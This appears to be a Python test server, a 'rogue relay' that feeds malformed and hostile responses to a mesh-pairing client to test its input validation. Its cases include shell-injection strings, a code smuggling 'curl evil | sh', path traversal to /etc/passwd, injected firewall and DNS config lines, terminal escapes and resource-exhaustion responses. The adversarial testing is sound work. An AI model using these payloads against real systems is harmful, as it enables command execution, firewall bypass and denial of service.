#!/usr/bin/env python3
"""A rogue relay: answers everything that a hostile one could.

rogue.py --list [sealed]          the names of the cases, a line each; those for a sealed pairing
rogue.py ADDR:PORT FILE OWN HOST OTHER
                                  serves; FILE holds the name of the case, read at every request;
                                  OWN, HOST and OTHER are addresses: of the victim's own jail, of its
                                  host's node, of a jail of another peer

The case "good" is an honest relay with a peer that joins at once; "control" is what most cases are one
step away from, and nothing is wrong with it.
"""

import http.server
import json
import socketserver
import sys

CODE = "81-zephyr-night-climb"
KIB = 1024


def jail(name="web", address="201:1::1"):
    return {"name": name, "ygg_address": address}


def roster(*jails):
    """The answer of both roles that tells these jails."""
    return lambda: json.dumps({"joined": True, "jails": list(jails)}).encode()


def raw(body):
    return lambda: body


def text_of(jails):
    """The same with the list of jails given as JSON text."""
    return lambda: b'{"joined":true,"jails":' + jails + b"}"


def cases(own="", host="", other=""):
    return {
        "good": roster(jail("honest", "201:99::1")),
        "control": roster(jail()),
        # What is no roster.
        "no-jails": raw(b'{"joined":true}'),
        "empty-roster": roster(),
        "jails-null": text_of(b"null"),
        "jails-object": text_of(b'{"name":"web","ygg_address":"201:1::1"}'),
        "jails-of-strings": text_of(b'["web"]'),
        "jail-null": text_of(b"[null]"),
        "jail-without-address": text_of(b'[{"name":"web"}]'),
        "jail-without-name": text_of(b'[{"ygg_address":"201:1::1"}]'),
        "array": raw(b"[1]"),
        "number": raw(b"7"),
        "text": raw(b"invalid or expired\n"),
        "html": raw(b"<html><body>\x1b[2JWelcome to the hotel's network</body></html>"),
        "nothing": raw(b""),
        "truncated": raw(b'{"joined":true,"jails":[{"name":"web","ygg_address":"201:1:'),
        "trailing": raw(b'{"joined":true,"jails":[{"name":"web","ygg_address":"201:1::1"}]} {}'),
        "two-jails-keys": raw(
            b'{"joined":true,"jails":[{"name":"web","ygg_address":"201:1::1"}],'
            b'"jails":[{"name":"api","ygg_address":"201:1::2"}]}'
        ),
        "two-names": text_of(b'[{"name":"web","name":"api","ygg_address":"201:1::1"}]'),
        "two-addresses": text_of(
            b'[{"name":"web","ygg_address":"201:1::1","ygg_address":"201:1::2"}]'
        ),
        "deep": raw(b'{"joined":true,"jails":' + b"[" * 100000 + b"]" * 100000 + b"}"),
        "invalid-utf8": text_of(b'[{"name":"w\xff\xfeb","ygg_address":"201:1::1"}]'),
        "large": text_of(b'[{"name":"web","ygg_address":"201:1::1","x":"' + b"x" * (300 * KIB) + b'"}]'),
        "many": roster(*[jail("j%d" % i, "201:1::%x" % (i + 1)) for i in range(1025)]),
        # Names.
        "name-dot": roster(jail("web.office")),
        "name-empty": roster(jail("")),
        "name-long": roster(jail("w" * 64)),
        "name-hyphen-first": roster(jail("-web")),
        "name-hyphen-last": roster(jail("web-")),
        "name-space": roster(jail("we b")),
        "name-number": text_of(b'[{"name":7,"ygg_address":"201:1::1"}]'),
        "name-not-ascii": roster(jail("w\u00e9b")),
        "name-nul": text_of(b'[{"name":"web\\u0000evil","ygg_address":"201:1::1"}]'),
        "name-newline": roster(jail("web\nserver:\n  interface: ::0")),
        "name-quote": roster(jail('web" \nlocal-data: "bank.example. A 203.0.113.66')),
        "name-shell": roster(jail("$(touch /tmp/owned)`id`;id|id&")),
        "name-terminal": roster(jail("\x1b]0;owned\x07\x1b[31mweb\x9b2J\r")),
        "name-turned-around": roster(jail("w\u202eb\u2066\u2028")),
        "name-rule": roster(jail("web }; add rule inet jmesh input accept")),
        "name-wildcard": roster(jail("*")),
        "name-path": roster(jail("../../etc/passwd")),
        "name-twice": roster(jail("web", "201:1::1"), jail("web", "201:1::2")),
        "name-twice-by-case": roster(jail("web", "201:1::1"), jail("WEB", "201:1::2")),
        "one-bad-among-good": roster(jail(), jail("api", "201:1::2"), jail("x y", "201:1::3")),
        # Addresses.
        "address-any": roster(jail(address="::/0")),
        "address-unspecified": roster(jail(address="::")),
        "address-all-nodes": roster(jail(address="200::/7")),
        "address-host-prefix": roster(jail(address="201:1::1/128")),
        "address-network": roster(jail(address="301:1::1")),
        "address-link-local": roster(jail(address="fe80::1")),
        "address-multicast": roster(jail(address="ff02::1")),
        "address-loopback": roster(jail(address="::1")),
        "address-global": roster(jail(address="2001:db8::1")),
        "address-mapped": roster(jail(address="::ffff:10.0.0.1")),
        "address-ipv4": roster(jail(address="10.17.89.1")),
        "address-name": roster(jail(address="example.com")),
        "address-empty": roster(jail(address="")),
        "address-number": text_of(b'[{"name":"web","ygg_address":201}]'),
        "address-zone": roster(jail(address="201:1::1%eth0")),
        "address-upper-case": roster(jail(address="201:ABCD::1")),
        "address-long-spelling": roster(jail(address="201:1:0:0:0:0:0:1")),
        "address-leading-zeros": roster(jail(address="0201:1::1")),
        "address-spaces": roster(jail(address=" 201:1::1 ")),
        "address-newline": roster(jail(address="201:1::1\n}\nadd rule inet jmesh input accept")),
        "address-nul": text_of(b'[{"name":"web","ygg_address":"201:1::1\\u0000::/0"}]'),
        "address-list": roster(jail(address="201:1::1, 201:1::2")),
        "address-twice": roster(jail("web", "201:1::1"), jail("api", "201:1::1")),
        "address-of-own-jail": roster(jail(address=own)),
        "address-of-own-host": roster(jail(address=host)),
        "address-of-other-peer": roster(jail(address=other)),
    }


# The answer to POST /pair; what is not here gets the good code.
CODES = {
    "code-missing": b"{}",
    "code-null": b'{"code":null}',
    "code-empty": b'{"code":""}',
    "code-number": b'{"code":81}',
    "code-long": b'{"code":"' + b"a" * 65 + b'"}',
    "code-path": b'{"code":"../../../etc/passwd"}',
    "code-terminal": b'{"code":"81\\u001b[31m-zephyr"}',
    "code-newline": b'{"code":"81-zephyr\\nrun: curl evil | sh"}',
    "code-shell": b'{"code":"81-$(id)"}',
    "code-twice": b'{"code":"81-zephyr-night-climb","code":"82-zephyr-night-climb"}',
    "code-text": b"\x1b[2Jno\n",
    "code-large": b'{"code":"' + b"a" * (600 * KIB) + b'"}',
}
# What creating is told before anybody can have joined.
POLLS = {
    "joined-text": b'{"joined":"true","jails":[{"name":"web","ygg_address":"201:1::1"}]}',
    "joined-number": b'{"joined":1,"jails":[{"name":"web","ygg_address":"201:1::1"}]}',
    "joined-missing": b'{"jails":[{"name":"web","ygg_address":"201:1::1"}]}',
    "joined-twice": b'{"joined":false,"joined":true,"jails":[{"name":"web","ygg_address":"201:1::1"}]}',
}


# Answers to who wants a sealed roster: {} is the one that the victim itself has sent.
SEALED = {
    "sealed-plain": b'{"joined":true,"jails":[{"name":"web","ygg_address":"201:1::1"}]}',
    "sealed-none": b'{"joined":true,"jails":[]}',
    "sealed-null": b'{"joined":true,"jails":[],"sealed":null}',
    "sealed-number": b'{"joined":true,"jails":[],"sealed":7}',
    "sealed-empty": b'{"joined":true,"jails":[],"sealed":""}',
    "sealed-short": b'{"joined":true,"jails":[],"sealed":"AAAA"}',
    "sealed-zeros": b'{"joined":true,"jails":[],"sealed":"' + b"A" * 400 + b'"}',
    "sealed-terminal": b'{"joined":true,"jails":[],"sealed":"\\u001b[2J"}',
    "sealed-large": b'{"joined":true,"jails":[],"sealed":"' + b"A" * (300 * KIB) + b'"}',
    "sealed-and-plain": b'{"joined":true,"jails":[{"name":"web","ygg_address":"201:1::1"}],"sealed":"{}"}',
    "sealed-twice": b'{"joined":true,"jails":[],"sealed":"{}","sealed":"{}"}',
    "sealed-reflected": b'{"joined":true,"jails":[],"sealed":"{}"}',
    "sealed-cut": b'{"joined":true,"jails":[],"sealed":"{-}"}',
}
# And to POST /pair with a code that the victim proposes.
SEALED_CODES = {
    "code-another": b'{"code":"82-zephyr-night-climb","token":"t"}',
    "code-no-token": b'{"code":"{code}"}',
}


def sealed_answer(template, sent, code):
    return (
        template.replace(b"{code}", code).replace(b"{-}", sent[:-8]).replace(b"{}", sent)
    )


class Rogue(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def answer(self, body, status=200, headers=()):
        self.send_response(status)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        try:
            self.wfile.write(body)
        except OSError:
            self.close_connection = True

    def special(self, case):
        """Answers that are hostile below JSON. True: this was one."""
        if case == "redirect":
            self.answer(b"", 302, [("Location", "http://%s/honest" % self.headers["Host"])])
        elif case == "redirect-file":
            self.answer(b"", 302, [("Location", "file:///etc/passwd")])
        elif case == "endless":
            self.send_response(200)
            self.end_headers()
            self.close_connection = True
            try:
                while True:
                    self.wfile.write(b" " * 65536)
            except OSError:
                pass
        elif case == "header-bomb":
            self.close_connection = True
            try:
                self.wfile.write(b"HTTP/1.1 200 OK\r\n")
                for i in range(20000):
                    self.wfile.write(b"X-Bomb-%d: %s\r\n" % (i, b"x" * 1000))
                self.wfile.write(b"\r\n")
            except OSError:
                pass
        elif case == "sick":
            self.answer(b"tired\n", 503)
        elif case == "forbidden":
            self.answer(b"\x1b[31mgo away\x1b]0;owned\x07\n", 403)
        else:
            return False
        return True

    def sealed(self, case, posted=None):
        """Answers to a sealed pairing. True: this was one."""
        server = self.server
        if posted is not None and b'"sealed":"' in posted:
            body = json.loads(posted)
            server.sent = body["sealed"].encode()
            if self.path == "/pair":
                server.code = body["code"].encode()
                template = SEALED_CODES.get(case, b'{"code":"{code}","token":"t"}')
                self.answer(sealed_answer(template, server.sent, server.code))
                return True
        if case not in SEALED:
            return False
        self.answer(sealed_answer(SEALED[case], server.sent, server.code))
        return True

    def do_GET(self):
        case = open(self.server.case_file).read().strip()
        if self.sealed(case):
            return
        if self.special(case):
            return
        if self.path == "/honest":
            return self.answer(self.server.cases["good"]())
        if case in POLLS:
            return self.answer(POLLS[case])
        self.answer(self.server.cases.get(case, self.server.cases["good"])())

    def do_POST(self):
        case = open(self.server.case_file).read().strip()
        posted = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        if self.sealed(case, posted):
            return
        if self.path == "/pair" and case != "sick":
            return self.answer(CODES.get(case, json.dumps({"code": CODE}).encode()))
        if self.special(case):
            return
        self.answer(self.server.cases.get(case, self.server.cases["good"])())


class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True


SPECIAL = ["redirect", "redirect-file", "endless", "header-bomb", "forbidden"]


def main():
    if sys.argv[1:] == ["--list", "sealed"]:
        for name in SEALED:
            print("both", name)
        for name in SEALED_CODES:
            print("create", name)
        return
    if sys.argv[1] == "--list":
        for name in list(cases()) + SPECIAL:
            if name not in ("good", "control"):
                print("both", name)
        for name in list(POLLS) + list(CODES):
            print("create", name)
        return
    address, port = sys.argv[1].rsplit(":", 1)
    server = Server((address, int(port)), Rogue)
    server.case_file = sys.argv[2]
    server.sent = server.code = b""
    server.cases = cases(*sys.argv[3:6])
    server.serve_forever()


main()
